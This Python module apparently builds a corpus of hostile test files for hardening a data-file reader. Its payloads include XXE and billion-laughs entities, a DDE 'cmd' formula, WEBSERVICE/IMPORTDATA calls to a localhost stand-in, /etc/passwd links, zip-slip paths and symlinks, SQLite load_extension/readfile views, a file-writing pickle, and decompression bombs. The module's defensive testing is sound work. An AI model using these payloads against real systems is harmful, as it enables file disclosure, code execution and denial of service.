"""Hostile files: each tries to make its reader open another file, load code, connect, or take memory without end."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle
import random
import sqlite3
import tarfile
import tempfile
import zipfile
from collections.abc import Callable, Sequence
from contextlib import closing
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any

import duckdb
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq

from attack.mutators import text_of, zipped
from attack.readers.samples import frame


@dataclass(frozen=True)
class Content:
    """The endings under which a kind of file is expected, and a way to make one."""

    endings: Sequence[str]
    make: Callable[[random.Random], bytes]


ROWS = "a,b\n" + "".join(f"{k % 7},{'xy'[k % 2]}\n" for k in range(40))
URL = "http://127.0.0.1:47111/x"
FEW = "CREATE TABLE t AS SELECT 1 AS a, 'x' AS b UNION ALL SELECT 2, 'y'"

DUCKDB_SCHEMAS = (
    (FEW,),
    ("CREATE VIEW v AS SELECT content AS a, 'x' AS b FROM read_text('secret.txt')",),
    ("CREATE VIEW v AS SELECT file AS a FROM glob('*')",),
    ("CREATE VIEW v AS SELECT * FROM read_csv('secret.csv')",),
    ("CREATE VIEW v AS SELECT * FROM read_blob('*.txt')",),
    ("CREATE MACRO m(x) AS TABLE SELECT * FROM read_text(x)", "CREATE VIEW v AS SELECT * FROM m('secret.txt')"),
    ("CREATE VIEW v AS SELECT * FROM query('SELECT content FROM read_text(''secret.txt'')')",),
    (FEW, "CREATE VIEW v AS SELECT a, (SELECT content FROM read_text('secret.txt')) AS b FROM t"),
    ("CREATE SEQUENCE s", "CREATE VIEW v AS SELECT nextval('s') AS a FROM range(9)"),
    ("CREATE VIEW v AS SELECT repeat('x', 20000000) AS a",),
    ("CREATE VIEW v AS SELECT list(range) AS a FROM range(60000000)",),
    ("CREATE TABLE t (a int DEFAULT 1, b text CHECK (b <> 'z'))", "INSERT INTO t VALUES (1, 'x'), (2, 'y')"),
    ('CREATE SCHEMA "s;--"', 'CREATE TABLE "s;--"."t""; COPY" AS SELECT 1 AS "a;", 2 AS "b"""'),
)
SQLITE_SCHEMAS = (
    (FEW,),
    ("CREATE VIEW v AS SELECT load_extension('secret.txt') AS a",),
    ("CREATE VIEW v AS SELECT readfile('secret.txt') AS a",),
    ("CREATE VIEW v AS SELECT zeroblob(1000000000) AS a",),
    ("CREATE VIEW v AS SELECT printf('%.*c', 1000000000, 'x') AS a",),
    ("CREATE VIEW v AS SELECT * FROM pragma_database_list",),
    ("CREATE VIEW v AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c LIMIT 99) SELECT x FROM c",),
    (FEW, "CREATE TRIGGER g AFTER INSERT ON t BEGIN DELETE FROM t; END", "CREATE VIEW v AS SELECT * FROM t"),
    ("CREATE VIRTUAL TABLE v USING fts5(a)", "INSERT INTO v VALUES ('x')"),
    ("CREATE VIRTUAL TABLE v USING rtree(id, a, b)", "INSERT INTO v VALUES (1, 2, 3)"),
    ("PRAGMA journal_mode = WAL", FEW),
    ("CREATE TABLE t (a, b GENERATED ALWAYS AS (printf('%d', a)))", "INSERT INTO t (a) VALUES (1), (2)"),
    ('CREATE TABLE "t""; ATTACH \'secret.db\'" AS SELECT 1 AS "a;"',),
    ("CREATE TABLE t AS SELECT x'ff00' AS a, zeroblob(2000000) AS b",),
)


@cache
def _database(kind: str, number: int) -> bytes:
    with tempfile.TemporaryDirectory() as place:
        for name in ("secret.txt", "secret.csv"):
            (Path(place) / name).write_text("a,b\n1,2\n")
        path = Path(place) / "made"
        if kind == "duckdb":
            with duckdb.connect(str(path), config={"file_search_path": place}) as database:
                for statement in DUCKDB_SCHEMAS[number]:
                    database.execute(statement)
        else:
            with closing(sqlite3.connect(path)) as lite:
                for statement in SQLITE_SCHEMAS[number]:
                    lite.execute(statement)
                lite.commit()
        return path.read_bytes()


def _duckdb(rng: random.Random) -> bytes:
    return _database("duckdb", rng.randrange(len(DUCKDB_SCHEMAS)))


def _sqlite(rng: random.Random) -> bytes:
    return _database("sqlite", rng.randrange(len(SQLITE_SCHEMAS)))


DOCTYPES = (
    '<!DOCTYPE x [<!ENTITY e SYSTEM "secret.txt">]>',
    f'<!DOCTYPE x SYSTEM "{URL}.dtd">',
    f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{URL}"> %p;]>',
    "<!DOCTYPE x [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{k} '{f'&a{k - 1};' * 10}'>" for k in range(1, 12))
    + "<!ENTITY e '&a11;'>]>",
    "",
)
SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
)
BOOK = (
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="s" sheetId="1" r:id="r1"/></sheets>'
    '<definedNames><definedName name="n">[1]s!$A$1</definedName></definedNames></workbook>'
)
RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _xlsx(rng: random.Random) -> bytes:
    """Make a workbook with entities, links to other files, formulas, stray cells, or parts that unpack to very much."""
    doctype = rng.choice(DOCTYPES)
    target = rng.choice(("secret.txt", "../secret.csv", URL, "file:///etc/passwd"))
    text = rng.choice(("x", "&e;", "=cmd|'/C calc'!A0", "y" * rng.choice((1, 100_000))))
    formula = rng.choice(("", f"<f>'[{target}]s'!A1</f>", f'<f>WEBSERVICE("{URL}")</f>'))
    far = rng.choice(("", "", "XFD1048576", "A99999999", "ZZZZZZ1"))
    rows = "".join(
        f'<row r="{k}"><c r="A{k}" t="inlineStr"><is><t>{text}{k}</t></is></c><c r="B{k}">{formula}<v>{k}</v></c>'
        '<c r="C{k}" t="s"><v>0</v></c></row>'
        for k in range(1, 9)
    )
    rows += f'<row><c r="{far}"><v>1</v></c></row>' if far else ""
    bomb = rng.random() < 0.15
    shared = f"<sst><si><t>{text}</t></si>{'<si><t>x</t></si>' * (1_200_000 if bomb else 1)}</sst>"
    links = f'<Relationship Id="r1" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
    links += f'<Relationship Id="r2" Type="{OFFICE}/externalLink" Target="{target}" TargetMode="External"/>'
    links += (
        f'<Relationship Id="r3" Type="{OFFICE}/sharedStrings" Target="{rng.choice(("sharedStrings.xml", target))}"/>'
    )
    members = [
        ("[Content_Types].xml", b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
        (
            "_rels/.rels",
            RELATIONS.format(
                f'<Relationship Id="r" Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/>'
            ).encode(),
        ),
        ("xl/workbook.xml", (doctype + BOOK).encode()),
        ("xl/_rels/workbook.xml.rels", RELATIONS.format(links).encode()),
        ("xl/worksheets/sheet1.xml", (doctype + SHEET.format(rows)).encode()),
        ("xl/sharedStrings.xml", (doctype + shared).encode()),
        (
            "xl/externalLinks/externalLink1.xml",
            f'<externalLink><externalBook href="{target}"/></externalLink>'.encode(),
        ),
    ]
    if rng.random() < 0.3:
        members += [(rng.choice(("../out.txt", "/tmp/out.txt", "xl/sharedStrings.xml", "a\\..\\b")), b"x" * 99)]
    data = bytearray(zipped(members))
    if rng.random() < 0.2:  # a size in the directory that is not the true one
        at = data.rindex(b"PK\x01\x02")
        data[at + 24 : at + 28] = rng.choice((b"\1\0\0\0", b"\xff\xff\xff\x7f", b"\0\0\0\0"))
    return bytes(data)


def _ods(rng: random.Random) -> bytes:
    names = ("office", "table", "text")
    spaces = " ".join(f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in names)
    columns, height = rng.choice(((2, 3), (16_384, 1_048_576), (16_384, 4), (3, 1_048_576), (-1, 5), (10**12, 10**12)))
    attributes = f'office:value-type="string" table:number-columns-repeated="{columns}"'
    cell = f"<table:table-cell {attributes}><text:p>x</text:p></table:table-cell>"
    row = f'<table:table-row table:number-rows-repeated="{height}">{cell}</table:table-row>'
    sheet = f'<office:spreadsheet><table:table table:name="s">{row}</table:table></office:spreadsheet>'
    body = f"<office:body>{sheet}</office:body>"
    content = f"{rng.choice(DOCTYPES)}<office:document-content {spaces}>{body}</office:document-content>"
    kind = b"application/vnd.oasis.opendocument.spreadsheet"
    manifest = b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    return zipped([("mimetype", kind), ("META-INF/manifest.xml", manifest), ("content.xml", content.encode())])


def _other_zip(rng: random.Random) -> bytes:
    """Make a zip with a zip in it, a link, a path that leads out, or a very large member."""
    inner = zipped([("t.csv", ROWS.encode())])
    for _ in range(rng.randrange(5)):
        inner = zipped([("z.zip", inner), ("t.csv", inner)])
    link = zipfile.ZipInfo("link.csv")
    link.external_attr = 0o120777 << 16
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(link, "secret.txt")
        archive.writestr(rng.choice(("../out.csv", "t.csv", "header.json", "xl/workbook.xml")), inner)
        archive.writestr("large.csv", bytes(rng.choice((10, 2**22))), zipfile.ZIP_DEFLATED)
    return file.getvalue()


def _tar(rng: random.Random) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode=rng.choice(("w", "w:gz"))) as archive:
        link = tarfile.TarInfo("t.csv")
        link.type, link.linkname = tarfile.SYMTYPE, "secret.txt"
        archive.addfile(link)
    return file.getvalue()


def _json(rng: random.Random) -> bytes:
    """Make JSON that is deep, wide, long, or of one endless line."""
    depth = rng.choice((3, 20, 400, 900, 980, 1_000, 5_000, 100_000))
    return rng.choice(
        (
            lambda: '{"a": ' * depth + "1" + "}" * depth,
            lambda: '[{"a": ' + "[" * depth + "]" * depth + "}]",
            lambda: '{"a": 1}\n' + '{"a": ' + '{"b": ' * depth + "1" + "}" * depth + "}\n",
            lambda: '{"a": "' + "x" * rng.choice((10, 2**21, 2**23)) + '"}\n{"a": "y"}\n',
            lambda: "[" * depth,
            lambda: json.dumps([{f"c{k}": k for k in range(rng.choice((3, 3_000)))}] * 3),
            lambda: '{"a": ' + "9" * rng.choice((10, 4_000, 5_000, 100_000)) + "}\n",
            lambda: json.dumps({"$ref": "secret.txt", "a": [{"b": text_of(rng)}] * 3}),
        )
    )().encode("utf-8", "surrogatepass")


def _csv(rng: random.Random) -> bytes:
    return rng.choice(
        (
            lambda: ROWS,
            lambda: ROWS + "x" * rng.choice((100, 5 * 2**20, 9 * 2**20)) + ",1\n",
            lambda: f'a,b\n=IMPORTDATA("{URL}"),secret.txt\n@SUM(A1),file:///etc/passwd\n',
            lambda: "secret.txt\nsecret.csv\n" + URL + "\n",
            lambda: ",".join(f"c{k}" for k in range(rng.choice((10, 5_000)))) + "\n",
            lambda: text_of(rng) + "," + text_of(rng) + "\n" + ROWS,
        )
    )().encode("utf-8", "surrogatepass")


def _packed(rng: random.Random) -> bytes:
    """Make packed text, twice packed text, packed bombs, and packed files of other kinds."""
    packers: tuple[Any, ...] = (
        gzip.compress,
        bz2.compress,
        lzma.compress,
        lambda d: pa.compress(d, "zstd").to_pybytes(),
    )
    pack = rng.choice(packers)
    inner = rng.choice((_csv, _json, _duckdb, _sqlite, _parquet, _pickle, _bomb))(rng)
    return bytes(pack(pack(inner) if rng.random() < 0.2 else inner))


def _bomb(rng: random.Random) -> bytes:
    return rng.choice((b"a,b\n" + b"x" * 2**24, b"a,b\n" + b"1,2\n" * 2**16, b'{"a": "' + b"x" * 2**22, b"[" * 2**22))


class _Touch:
    """An object that would write a file when it is unpickled."""

    def __reduce__(self) -> tuple[Any, ...]:
        return open, ("out.txt", "w")


def _pickle(rng: random.Random) -> bytes:
    data = pickle.dumps(_Touch(), protocol=rng.choice((0, 2, 4)))
    if rng.random() < 0.5:
        return data
    head = "{'descr': '|O', 'fortran_order': False, 'shape': (2,), }".ljust(117).encode() + b"\n"
    return b"\x93NUMPY\1\0" + len(head).to_bytes(2, "little") + head + data


def _npy(rng: random.Random) -> bytes:
    file = io.BytesIO()
    np.save(file, np.arange(rng.choice((0, 3, 1_000))))
    return file.getvalue()


def _table(rng: random.Random) -> pa.Table:
    """Make a table with a false note of pandas, a type that wants to be unpickled, or texts that are long together."""
    table = frame()
    note = rng.choice((b"", b"{", b"[" * 10_000, json.dumps({"index_columns": table.column_names}).encode()))
    field = pa.field("a", pa.binary(), metadata={
        b"ARROW:extension:name": rng.choice((b"arrow.py_extension_type", b"arrow.opaque", b"x")),
        b"ARROW:extension:metadata": pickle.dumps(_Touch()),
    })  # fmt: skip
    odd = pa.schema([field, pa.field("b", pa.string())], metadata={b"pandas": note})
    return rng.choice(
        (
            table.replace_schema_metadata({b"pandas": note}),
            pa.Table.from_arrays([pa.array([b"x", b"y"]), pa.array(["x", "y"])], schema=odd),
            pa.table({"a": pa.array(["x" * 200_000] * 500).dictionary_encode(), "b": list(range(500))}),
            pa.table({"a": [[{"b": 1}]], "b": [None]}),
            pa.table({"a": pa.DictionaryArray.from_arrays([0] * 8_000, ["x" * 2**20]), "b": list(range(8_000))}),
        )
    )


def _parquet(rng: random.Random) -> bytes:
    file = io.BytesIO()
    pq.write_table(_table(rng), file, compression=rng.choice(("none", "zstd", "gzip")))
    data = bytearray(file.getvalue())
    if rng.random() < 0.3:  # a length of the footer that is not the true one
        data[-8:-4] = rng.choice(
            (b"\xff\xff\xff\x7f", b"\xff\xff\xff\xff", b"\0\0\0\0", len(data).to_bytes(4, "little"))
        )
    return bytes(data)


def _arrow(rng: random.Random) -> bytes:
    file, table = io.BytesIO(), _table(rng)
    with rng.choice((pa.ipc.new_file, pa.ipc.new_stream))(file, table.schema) as writer:
        writer.write_table(table)
    data = bytearray(file.getvalue())
    for _ in range(rng.randrange(3)):  # offsets and lengths that lead out of the file
        at = rng.randrange(0, max(8, len(data) - 8), 8)
        data[at : at + 8] = rng.choice((2**31, 2**40, 2**63 - 1, 2**64 - 1, 0)).to_bytes(8, "little")
    return bytes(data)


def _page(rng: random.Random) -> bytes:
    return rng.choice(
        (
            f'<?xml version="1.0"?>{rng.choice(DOCTYPES)}<x>&e;<row a="1"/></x>',
            f'<html><link href="{URL}"><table><tr><td>a<td>b</table></html>',
            "%PDF-1.7\n/JavaScript", "#!/bin/sh\ntouch out.txt\n", "\x89PNG\r\n", '{"connection": "duckdb:///secret.db"}',
            "import os; os.system('touch out.txt')\n", "[InternetShortcut]\nURL=" + URL,
        )
    ).encode("latin-1")  # fmt: skip


CONTENTS = (
    Content((".csv", ".tsv", ".txt", ""), _csv),
    Content((".json", ".jsonl", ".txt", ""), _json),
    Content((".duckdb", ".db"), _duckdb),
    Content((".duckdb", ".db", ".csv"), _duckdb),
    Content((".sqlite", ".db"), _sqlite),
    Content((".parquet", ".pq"), _parquet),
    Content((".arrow", ".feather"), _arrow),
    Content((".xlsx", ".xlsm", ".xlsb"), _xlsx),
    Content((".ods",), _ods),
    Content((".csv.gz", ".gz", ".txt", ".json.gz", ".csv.zst", ".csv.bz2", ".csv.xz"), _packed),
    Content((".zip", ".rules", ".xlsx"), _other_zip),
    Content((".tar", ".tar.gz", ".txt"), _tar),
    Content((".npy", ".pkl", ".txt"), _pickle),
    Content((".npy", ".txt"), _npy),
    Content((".xml", ".html", ".txt", ".csv"), _page),
)
